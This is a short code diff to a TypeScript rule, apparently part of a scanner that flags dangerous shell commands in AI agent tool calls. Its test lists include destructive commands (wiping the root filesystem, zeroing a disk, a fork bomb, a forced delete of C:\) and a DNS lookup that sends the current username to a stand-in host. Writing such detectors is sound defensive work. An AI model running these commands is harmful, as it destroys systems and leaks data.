@@ -14,7 +14,7 @@ export const shellDangerous: Rule<MessageSubject> = {
   summary: 'A command destroys a system, opens a door to it, or reads or sends away what is secret',
   fix: 'Ask the person before anything of this kind runs. What the sandbox does not grant it cannot reach anyway.',
   references: ['MCP05', 'MCP01', 'SAFE-T1101', 'SAFE-T1502', 'SAFE-T1913', 'CoSAI T5'],
-  bad: [
+  bad: () => [
     calling({ command: 'rm -rf / --no-preserve-root' }),
     calling({ command: 'sudo dd if=/dev/zero of=/dev/sda bs=1M' }),
     calling({ cmd: ':(){ :|:& };:' }),
@@ -26,7 +26,7 @@ export const shellDangerous: Rule<MessageSubject> = {
     calling({ cmd: 'dig $(whoami).a.example.test' }),
     calling({ value: 'Remove-Item -Recurse -Force C:\\' }),
   ],
-  good: [
+  good: () => [
     calling({ command: 'rm -rf /tmp/build && rm -r node_modules' }),
     calling({ command: 'dd if=/dev/sda of=/tmp/backup.img' }),
     calling({ command: 'cat /repo/testdata/.ssh/id_rsa' }),
